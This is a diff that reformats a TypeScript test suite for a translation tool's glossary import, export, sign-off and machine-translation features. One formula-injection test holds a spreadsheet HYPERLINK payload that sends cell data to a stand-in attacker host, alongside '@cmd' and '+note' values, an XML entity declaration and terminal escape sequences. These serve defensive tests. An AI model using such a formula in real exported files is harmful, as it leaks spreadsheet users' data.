@@ -70,10 +70,25 @@ describe('glossary terms', () => {
     const cases: [Promise<unknown>, string, Record<string, unknown>?][] = [
       [api.addGlossaryTerm({ ...EN_ES, term: { source: ' ', target: 'x' } }), 'GLOSSARY_TERM_EMPTY', { field: 'source' }],
       [api.addGlossaryTerm({ ...EN_ES, term: { source: 'x', target: '' } }), 'GLOSSARY_TERM_EMPTY', { field: 'target' }],
-      [api.addGlossaryTerm({ ...EN_ES, term: { source: 'x'.repeat(201), target: 'y' } }), 'GLOSSARY_TERM_TOO_LONG', { field: 'source', limit: 200 }],
-      [api.addGlossaryTerm({ ...EN_ES, term: { source: 'European Union', target: 'Otra' } }), 'GLOSSARY_TERM_DUPLICATE', { source: 'European Union' }],
-      [api.addGlossaryTerm({ ...EN_ES, term: { source: 'x', target: 'Casa', forbidden: ['casa'] } }), 'GLOSSARY_FORBIDDEN_IS_TARGET', { variant: 'casa' }],
-      [api.addGlossaryTerm({ ...EN_ES, term: { source: 'x', target: 'y', forbidden: Array.from({ length: 21 }, (_, i) => `v${i}`) } }), 'GLOSSARY_TOO_MANY_VARIANTS'],
+      [
+        api.addGlossaryTerm({ ...EN_ES, term: { source: 'x'.repeat(201), target: 'y' } }),
+        'GLOSSARY_TERM_TOO_LONG',
+        { field: 'source', limit: 200 },
+      ],
+      [
+        api.addGlossaryTerm({ ...EN_ES, term: { source: 'European Union', target: 'Otra' } }),
+        'GLOSSARY_TERM_DUPLICATE',
+        { source: 'European Union' },
+      ],
+      [
+        api.addGlossaryTerm({ ...EN_ES, term: { source: 'x', target: 'Casa', forbidden: ['casa'] } }),
+        'GLOSSARY_FORBIDDEN_IS_TARGET',
+        { variant: 'casa' },
+      ],
+      [
+        api.addGlossaryTerm({ ...EN_ES, term: { source: 'x', target: 'y', forbidden: Array.from({ length: 21 }, (_, i) => `v${i}`) } }),
+        'GLOSSARY_TOO_MANY_VARIANTS',
+      ],
       [api.addGlossaryTerm({ sourceLang: 'xx-nope', targetLang: 'es', term: EU }), 'LANGUAGE_UNKNOWN'],
       [api.addGlossaryTerm({ sourceLang: 'es', targetLang: 'ES', term: EU }), 'LANGUAGE_SAME'],
       [api.updateGlossaryTerm({ termId: nato.id, term: { source: 'European Union', target: 'OTAN' } }), 'GLOSSARY_TERM_DUPLICATE'],
@@ -88,7 +103,10 @@ describe('glossary terms', () => {
     expect(count(backend)).toBe(2);
     expect(await api.listGlossaryTerms(EN_ES)).toEqual([eu, nato]);
     // Through the dispatcher, a malformed payload is refused before it reaches the service.
-    expect(await backend.dispatch('addGlossaryTerm', { ...EN_ES, term: { source: 1 } })).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST' } });
+    expect(await backend.dispatch('addGlossaryTerm', { ...EN_ES, term: { source: 1 } })).toMatchObject({
+      ok: false,
+      error: { code: 'BAD_REQUEST' },
+    });
   });
 });
 
@@ -107,7 +125,11 @@ describe('glossary import and export', () => {
       ['prime minister', 'primer ministro', false],
     ]);
     expect(await api.importGlossary({ ...EN_ES, fileName: 'terms.csv', dataBase64: b64(CSV), mode: 'merge' })).toEqual({
-      added: 0, updated: 0, unchanged: 2, removed: 0, total: 3,
+      added: 0,
+      updated: 0,
+      unchanged: 2,
+      removed: 0,
+      total: 3,
     });
   });
 
@@ -116,7 +138,11 @@ describe('glossary import and export', () => {
     await api.addGlossaryTerm({ ...EN_ES, term: { source: 'prime minister', target: 'primer ministro' } });
     await api.addGlossaryTerm({ sourceLang: 'en', targetLang: 'de', term: { source: 'prime minister', target: 'Premierminister' } });
     expect(await api.importGlossary({ ...EN_ES, fileName: 'terms.csv', dataBase64: b64(CSV), mode: 'replace' })).toEqual({
-      added: 2, updated: 0, unchanged: 0, removed: 1, total: 2,
+      added: 2,
+      updated: 0,
+      unchanged: 0,
+      removed: 1,
+      total: 2,
     });
     expect((await api.listGlossaryTerms({ sourceLang: 'en', targetLang: 'de' })).map((t) => t.target)).toEqual(['Premierminister']);
   });
@@ -128,10 +154,21 @@ describe('glossary import and export', () => {
     const before = await api.listGlossaryTerms(EN_ES);
     const imp = (fileName: string, text: string | Buffer, mode: 'merge' | 'replace' = 'replace') =>
       failure(api.importGlossary({ ...EN_ES, fileName, dataBase64: Buffer.isBuffer(text) ? text.toString('base64') : b64(text), mode }));
-    expect(await imp('t.csv', `${CSV}"",missing source\r\n`)).toMatchObject({ code: 'GLOSSARY_IMPORT_ROW_INVALID', details: { row: 4, field: 'source', reason: 'GLOSSARY_TERM_EMPTY' } });
-    expect(await imp('t.csv', `${CSV}NATO,Otra\r\n`)).toMatchObject({ code: 'GLOSSARY_IMPORT_DUPLICATE', details: { row: 4, firstRow: 3, source: 'NATO' } });
-    expect(await imp('t.csv', `${CSV}x,y,,y,no\r\n`)).toMatchObject({ code: 'GLOSSARY_IMPORT_ROW_INVALID', details: { row: 4, field: 'forbidden', reason: 'GLOSSARY_FORBIDDEN_IS_TARGET', variant: 'y' } });
-    expect(await imp('t.tbx', '<?xml version="1.0"?><!DOCTYPE tbx [<!ENTITY a "b">]><tbx/>')).toMatchObject({ code: 'GLOSSARY_TBX_ENTITIES' });
+    expect(await imp('t.csv', `${CSV}"",missing source\r\n`)).toMatchObject({
+      code: 'GLOSSARY_IMPORT_ROW_INVALID',
+      details: { row: 4, field: 'source', reason: 'GLOSSARY_TERM_EMPTY' },
+    });
+    expect(await imp('t.csv', `${CSV}NATO,Otra\r\n`)).toMatchObject({
+      code: 'GLOSSARY_IMPORT_DUPLICATE',
+      details: { row: 4, firstRow: 3, source: 'NATO' },
+    });
+    expect(await imp('t.csv', `${CSV}x,y,,y,no\r\n`)).toMatchObject({
+      code: 'GLOSSARY_IMPORT_ROW_INVALID',
+      details: { row: 4, field: 'forbidden', reason: 'GLOSSARY_FORBIDDEN_IS_TARGET', variant: 'y' },
+    });
+    expect(await imp('t.tbx', '<?xml version="1.0"?><!DOCTYPE tbx [<!ENTITY a "b">]><tbx/>')).toMatchObject({
+      code: 'GLOSSARY_TBX_ENTITIES',
+    });
     expect(await imp('t.csv', Buffer.from([0x73, 0x6f, 0xff, 0xfe, 0x0a]))).toMatchObject({ code: 'GLOSSARY_IMPORT_ENCODING' });
     expect(await imp('t.csv', Buffer.alloc(10 * 1024 * 1024 + 1, 0x61))).toMatchObject({ code: 'GLOSSARY_IMPORT_TOO_LARGE' });
     expect(await imp('t.docx', CSV)).toMatchObject({ code: 'GLOSSARY_IMPORT_FORMAT' });
@@ -144,14 +181,28 @@ describe('glossary import and export', () => {
     const { api } = start();
     await api.addGlossaryTerm({ ...EN_ES, term: { ...EU, note: 'Comma, "quote" & <tag>', forbidden: ['UE', 'Unión'] } });
     await api.addGlossaryTerm({ ...EN_ES, term: { source: 'NATO', target: 'OTAN', caseSensitive: true } });
-    const original = (await api.listGlossaryTerms(EN_ES)).map(({ source, target, note, forbidden, caseSensitive }) => ({ source, target, note, forbidden, caseSensitive }));
+    const original = (await api.listGlossaryTerms(EN_ES)).map(({ source, target, note, forbidden, caseSensitive }) => ({
+      source,
+      target,
+      note,
+      forbidden,
+      caseSensitive,
+    }));
     for (const format of ['csv', 'tbx'] as const) {
       const file = await api.exportGlossary({ ...EN_ES, format });
       expect(file.fileName).toBe(`glossary.en-es.${format}`);
       const other = start();
       const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(file.content, 'utf16le')]);
-      expect(await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: utf16.toString('base64'), mode: 'merge' })).toMatchObject({ added: 2 });
-      const back = (await other.api.listGlossaryTerms(EN_ES)).map(({ source, target, note, forbidden, caseSensitive }) => ({ source, target, note, forbidden, caseSensitive }));
+      expect(
+        await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: utf16.toString('base64'), mode: 'merge' }),
+      ).toMatchObject({ added: 2 });
+      const back = (await other.api.listGlossaryTerms(EN_ES)).map(({ source, target, note, forbidden, caseSensitive }) => ({
+        source,
+        target,
+        note,
+        forbidden,
+        caseSensitive,
+      }));
       expect(back, format).toEqual(original);
     }
   });
@@ -160,7 +211,13 @@ describe('glossary import and export', () => {
     const { api } = start();
     await api.addGlossaryTerm({ ...EN_ES, term: { ...EU, definition: 'Political & economic union of 27 <member> states.' } });
     await api.addGlossaryTerm({ ...EN_ES, term: { source: 'NATO', target: 'OTAN', definition: 'North Atlantic alliance.' } });
-    const original = (await api.listGlossaryTerms(EN_ES)).map(({ source, target, note, definition, forbidden }) => ({ source, target, note, definition, forbidden }));
+    const original = (await api.listGlossaryTerms(EN_ES)).map(({ source, target, note, definition, forbidden }) => ({
+      source,
+      target,
+      note,
+      definition,
+      forbidden,
+    }));
     expect(original.map((t) => t.definition)).toEqual(['Political & economic union of 27 <member> states.', 'North Atlantic alliance.']);
 
     const v2 = await api.exportGlossary({ ...EN_ES, format: 'tbx' });
@@ -173,27 +230,49 @@ describe('glossary import and export', () => {
 
     for (const file of [v2, v3]) {
       const other = start();
-      expect(await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: b64(file.content), mode: 'merge' })).toMatchObject({ added: 2 });
-      const back = (await other.api.listGlossaryTerms(EN_ES)).map(({ source, target, note, definition, forbidden }) => ({ source, target, note, definition, forbidden }));
+      expect(
+        await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: b64(file.content), mode: 'merge' }),
+      ).toMatchObject({ added: 2 });
+      const back = (await other.api.listGlossaryTerms(EN_ES)).map(({ source, target, note, definition, forbidden }) => ({
+        source,
+        target,
+        note,
+        definition,
+        forbidden,
+      }));
       expect(back, file.fileName).toEqual(original);
     }
 
     // An edit that does not send a definition keeps it; one that sends '' clears it.
     const nato = (await api.listGlossaryTerms(EN_ES))[1]!;
-    expect((await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN' } })).definition).toBe('North Atlantic alliance.');
-    expect((await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN', definition: '' } })).definition).toBe('');
+    expect((await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN' } })).definition).toBe(
+      'North Atlantic alliance.',
+    );
+    expect((await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN', definition: '' } })).definition).toBe(
+      '',
+    );
     await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN', definition: 'North Atlantic alliance.' } });
 
     // A changed definition is a change: merge updates the term.
     const changed = v2.content.replace('North Atlantic alliance.', 'A military alliance.');
-    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(changed), mode: 'merge' })).toMatchObject({ updated: 1, unchanged: 1 });
+    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(changed), mode: 'merge' })).toMatchObject({
+      updated: 1,
+      unchanged: 1,
+    });
     expect((await api.listGlossaryTerms(EN_ES))[1]?.definition).toBe('A military alliance.');
 
     // A file that carries no definitions (an older CSV, another tool's TBX) leaves stored ones alone.
-    const plainCsv = 'source,target,note,forbidden\r\nEuropean Union,Unión Europea,Never abbreviate in body text.,UE\r\nNATO,OTAN de la alianza,,\r\n';
-    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.csv', dataBase64: b64(plainCsv), mode: 'replace' })).toMatchObject({ updated: 1, unchanged: 1 });
+    const plainCsv =
+      'source,target,note,forbidden\r\nEuropean Union,Unión Europea,Never abbreviate in body text.,UE\r\nNATO,OTAN de la alianza,,\r\n';
+    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.csv', dataBase64: b64(plainCsv), mode: 'replace' })).toMatchObject({
+      updated: 1,
+      unchanged: 1,
+    });
     const plainTbx = v2.content.replace(/\s*<descrip type="definition">[^<]*<\/descrip>/g, '');
-    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(plainTbx), mode: 'merge' })).toMatchObject({ updated: 1, unchanged: 1 });
+    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(plainTbx), mode: 'merge' })).toMatchObject({
+      updated: 1,
+      unchanged: 1,
+    });
     expect((await api.listGlossaryTerms(EN_ES)).map((t) => [t.target, t.definition])).toEqual([
       ['Unión Europea', 'Political & economic union of 27 <member> states.'],
       ['OTAN', 'A military alliance.'],
@@ -203,7 +282,10 @@ describe('glossary import and export', () => {
     expect(csv.content.split('\r\n')[0]).toBe('source,target,note,forbidden,case_sensitive,definition');
     const other = start();
     await other.api.importGlossary({ ...EN_ES, fileName: csv.fileName, dataBase64: b64(csv.content), mode: 'merge' });
-    expect((await other.api.listGlossaryTerms(EN_ES)).map((t) => t.definition)).toEqual(['Political & economic union of 27 <member> states.', 'A military alliance.']);
+    expect((await other.api.listGlossaryTerms(EN_ES)).map((t) => t.definition)).toEqual([
+      'Political & economic union of 27 <member> states.',
+      'A military alliance.',
+    ]);
   });
 
   it('says which data categories of a TBX file it did not keep, and in how many entries', async () => {
@@ -217,7 +299,10 @@ describe('glossary import and export', () => {
     <langSet xml:lang="es"><tig><term>arancel</term></tig></langSet></termEntry>
   <termEntry id="c"><langSet xml:lang="en"><tig><term>deficit</term></tig></langSet><langSet xml:lang="es"><tig><term>déficit</term></tig></langSet></termEntry>
 </body></text></martif>`;
-    const withGerman = tbx.replace('</body>', '<termEntry id="d"><langSet xml:lang="en"><tig><term>levy</term></tig></langSet><langSet xml:lang="de"><tig><term>Abgabe</term></tig></langSet></termEntry></body>');
+    const withGerman = tbx.replace(
+      '</body>',
+      '<termEntry id="d"><langSet xml:lang="en"><tig><term>levy</term></tig></langSet><langSet xml:lang="de"><tig><term>Abgabe</term></tig></langSet></termEntry></body>',
+    );
     expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(withGerman), mode: 'merge' })).toEqual({
       added: 4,
       updated: 0,
@@ -231,8 +316,10 @@ describe('glossary import and export', () => {
       skippedEntries: 1,
     });
     // A file naming many categories: twenty are listed, the rest counted as "other".
-    const many = Array.from({ length: 30 }, (_, i) =>
-      `<termEntry><descrip type="cat${i}">x</descrip><langSet xml:lang="en"><tig><term>t${i}</term></tig></langSet><langSet xml:lang="es"><tig><term>u${i}</term></tig></langSet></termEntry>`,
+    const many = Array.from(
+      { length: 30 },
+      (_, i) =>
+        `<termEntry><descrip type="cat${i}">x</descrip><langSet xml:lang="en"><tig><term>t${i}</term></tig></langSet><langSet xml:lang="es"><tig><term>u${i}</term></tig></langSet></termEntry>`,
     ).join('');
     const manyResult = await start().api.importGlossary({
       ...EN_ES,
@@ -244,7 +331,9 @@ describe('glossary import and export', () => {
     expect(manyResult.notKept?.at(-1)).toEqual({ category: 'other', entries: 10 });
     // Verso's own export keeps everything it reads back: nothing is reported.
     const own = await api.exportGlossary({ ...EN_ES, format: 'tbx' });
-    expect(await start().api.importGlossary({ ...EN_ES, fileName: own.fileName, dataBase64: b64(own.content), mode: 'merge' })).not.toHaveProperty('notKept');
+    expect(
+      await start().api.importGlossary({ ...EN_ES, fileName: own.fileName, dataBase64: b64(own.content), mode: 'merge' }),
+    ).not.toHaveProperty('notKept');
   });
 
   it('refuses a TBX export of a pair without terms (a TBX body holds at least one entry), and a too-long definition', async () => {
@@ -263,12 +352,17 @@ describe('glossary CSV export and formula injection', () => {
     const { api } = start();
     const csv = 'source,target,note\r\nBud\u001bget,Presu\u0000puesto,"see\u001b[2J\nthis"\r\n';
     await api.importGlossary({ ...EN_ES, fileName: 'g.csv', dataBase64: b64(csv), mode: 'merge' });
-    expect((await api.listGlossaryTerms(EN_ES)).map((t) => [t.source, t.target, t.note])).toEqual([['Budget', 'Presupuesto', 'see[2J\nthis']]);
+    expect((await api.listGlossaryTerms(EN_ES)).map((t) => [t.source, t.target, t.note])).toEqual([
+      ['Budget', 'Presupuesto', 'see[2J\nthis'],
+    ]);
   });
 
   it('a note starting with a tab is stored trimmed and exported with the apostrophe, never as a formula', async () => {
     const { api } = start();
-    await api.addGlossaryTerm({ ...EN_ES, term: { source: '=HYPERLINK("http://evil.example/?x="&A1,"click")', target: 'x', note: '\t=1+1' } });
+    await api.addGlossaryTerm({
+      ...EN_ES,
+      term: { source: '=HYPERLINK("http://evil.example/?x="&A1,"click")', target: 'x', note: '\t=1+1' },
+    });
     await api.addGlossaryTerm({ ...EN_ES, term: { source: '@cmd', target: '-x', note: '+note' } });
     const file = await api.exportGlossary({ ...EN_ES, format: 'csv' });
     const lines = file.content.split('\r\n');
@@ -295,7 +389,10 @@ describe('the glossary in the sign-off gate', () => {
     await api.updateParagraphTarget({ paragraphId: p2, target: 'La Comunidad acordó.' });
     await api.updateParagraphTarget({ paragraphId: p3, target: 'Nada que ver.' });
 
-    expect(await failure(api.signOffParagraphs({ paragraphIds: [p1, p2, p3] }))).toMatchObject({ code: 'QA_BLOCKED', details: { paragraphs: [1, 2] } });
+    expect(await failure(api.signOffParagraphs({ paragraphIds: [p1, p2, p3] }))).toMatchObject({
+      code: 'QA_BLOCKED',
+      details: { paragraphs: [1, 2] },
+    });
     const summary = await api.signOffReviewed({ paragraphIds: [p1, p2, p3] });
     expect(summary.signedOff.map((p) => p.id)).toEqual([p3]);
     expect(summary.skipped.map((s) => [s.number, s.issues.map((i) => i.code)])).toEqual([
@@ -306,15 +403,26 @@ describe('the glossary in the sign-off gate', () => {
     // Fixed: signed off. Overridden with a reason: signed off, the reason and the issues kept.
     await api.updateParagraphTarget({ paragraphId: p1, target: 'La Unión Europea se reunió hoy.' });
     expect((await api.signOffReviewed({ paragraphIds: [p1] })).signedOff).toHaveLength(1);
-    const overridden = await api.signOffReviewed({ paragraphIds: [p2], overrides: [{ paragraphId: p2, reason: 'Quoting an old document.' }] });
+    const overridden = await api.signOffReviewed({
+      paragraphIds: [p2],
+      overrides: [{ paragraphId: p2, reason: 'Quoting an old document.' }],
+    });
     expect(overridden.signedOff).toHaveLength(1);
     const history = await api.getParagraphHistory({ paragraphId: p2 });
     expect(JSON.stringify(history)).toContain('Quoting an old document.');
     expect(JSON.stringify(history)).toContain('glossaryTermMissing');
 
     // Terms of the broader tag serve a regional document (pt terms for pt-BR).
-    const pt = await api.addGlossaryTerm({ sourceLang: 'en', targetLang: 'pt', term: { source: 'European Union', target: 'União Europeia' } });
-    const regional = await api.importDocument({ source: { kind: 'text', text: 'The European Union met.', format: 'txt' }, sourceLang: 'en', targetLang: 'pt-BR' });
+    const pt = await api.addGlossaryTerm({
+      sourceLang: 'en',
+      targetLang: 'pt',
+      term: { source: 'European Union', target: 'União Europeia' },
+    });
+    const regional = await api.importDocument({
+      source: { kind: 'text', text: 'The European Union met.', format: 'txt' },
+      sourceLang: 'en',
+      targetLang: 'pt-BR',
+    });
     expect((await api.listDocumentGlossary({ documentId: regional.id })).map((t) => t.target)).toEqual(['União Europeia']);
     await api.updateParagraphTarget({ paragraphId: regional.paragraphs[0]!.id, target: 'A UE se reuniu.' });
     expect((await api.signOffReviewed({ paragraphIds: [regional.paragraphs[0]!.id] })).skipped).toHaveLength(1);
@@ -386,7 +494,14 @@ describe('the glossary in machine translation', () => {
     const server = await startDeepl({ key: 'dl-key' });
     cleanups.push(() => void server.close());
     const dir = makeTempDir();
-    const backend = createBackend({ dataDir: dir, mode: 'browser', version: '1.0.0', engines: [], secrets: createMemorySecretStore(), http: { sleep: async () => undefined } });
+    const backend = createBackend({
+      dataDir: dir,
+      mode: 'browser',
+      version: '1.0.0',
+      engines: [],
+      secrets: createMemorySecretStore(),
+      http: { sleep: async () => undefined },
+    });
     cleanups.push(() => {
       backend.close();
       removeTempDir(dir);
@@ -394,7 +509,14 @@ describe('the glossary in machine translation', () => {
     const { api } = backend;
     const log = recordJobEvents(backend.events);
     await api.setProfile({ name: 'Tomás', role: 'translator' });
-    await api.saveEngineSettings({ engine: 'deepl', enabled: true, baseUrl: server.url, formality: 'default', glossaryId: '', apiKey: 'dl-key' });
+    await api.saveEngineSettings({
+      engine: 'deepl',
+      enabled: true,
+      baseUrl: server.url,
+      formality: 'default',
+      glossaryId: '',
+      apiKey: 'dl-key',
+    });
     await api.addGlossaryTerm({ ...EN_ES, term: EU });
     const doc = await article(backend, ['The European Union met.', 'Nothing here.']);
     const job = await api.translateDocument({ documentId: doc.id, scope: 'all', engineId: 'deepl' });
